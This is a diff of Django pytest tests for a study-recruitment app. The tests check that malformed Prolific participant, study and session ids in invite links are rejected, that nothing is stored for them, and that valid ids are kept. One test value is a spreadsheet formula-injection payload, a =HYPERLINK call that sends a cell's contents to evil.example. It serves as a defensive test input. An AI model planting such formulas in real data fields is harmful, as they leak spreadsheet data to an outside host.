@@ -273,8 +273,41 @@ def test_the_consent_page_says_what_coming_back_with_the_link_means(panel_study)
 @pytest.mark.parametrize("bad", ["abc", "0123456789abcdef0123456g", "0123456789abcdef01234567-x"])
 def test_a_url_panel_id_is_checked_like_a_typed_one(panel_study, bad):
     r = Client().get(f"/join/{panel_study.invite_token}/", {"PROLIFIC_PID": bad})
-    assert r.status_code == 400 and b"24 letters and digits" in r.content
+    body = r.content.decode()
+    assert r.status_code == 400 and "24 characters, digits 0-9 and letters a-f" in body
+    # The page says the link's id is wrong, not that the study is unavailable.
+    assert "<title>The ID in this link is not valid</title>" in body and "Study unavailable" not in body
     assert not Evaluator.objects.exists()
+
+
+BAD_PANEL_IDS = ['=HYPERLINK("http://evil.example/?"&A2,"click")', "abc", "0123456789abcdef0123456g",
+                 "0123456789abcdef0123456"]
+
+
+@pytest.mark.parametrize("param", ["STUDY_ID", "SESSION_ID"])
+@pytest.mark.parametrize("bad", BAD_PANEL_IDS)
+def test_a_prolific_link_with_a_malformed_study_or_session_id_stores_nothing(panel_study, param, bad):
+    ids = {"PROLIFIC_PID": PID, "STUDY_ID": "a" * 24, "SESSION_ID": "b" * 24, param: bad}
+    r = Client().get(f"/join/{panel_study.invite_token}/", ids)
+    body = r.content.decode()
+    assert r.status_code == 400 and "The ID in this link is not valid" in body
+    assert "study or session ID in this link is not one Prolific made" in body
+    assert not Evaluator.objects.exists()
+
+
+def test_a_prolific_link_with_an_unfilled_study_id_says_the_panel_did_not_fill_it(panel_study):
+    r = Client().get(f"/join/{panel_study.invite_token}/", {"PROLIFIC_PID": PID, "STUDY_ID": "{{%STUDY_ID%}}"})
+    body = r.content.decode()
+    assert r.status_code == 400 and "not filled in by Prolific" in body and "STUDY_ID%" not in body
+    assert not Evaluator.objects.exists()
+
+
+def test_a_prolific_link_keeps_well_formed_study_and_session_ids(panel_study):
+    r = Client().get(f"/join/{panel_study.invite_token}/",
+                     {"PROLIFIC_PID": PID, "STUDY_ID": "A" * 24, "SESSION_ID": "0b" * 12})
+    assert r.status_code == 302
+    ev = Evaluator.objects.get()
+    assert (ev.external_id, ev.external_study_id, ev.external_session_id) == (PID, "A" * 24, "0b" * 12)
 
 
 def test_an_unfilled_placeholder_says_the_panel_did_not_fill_the_link(panel_study):
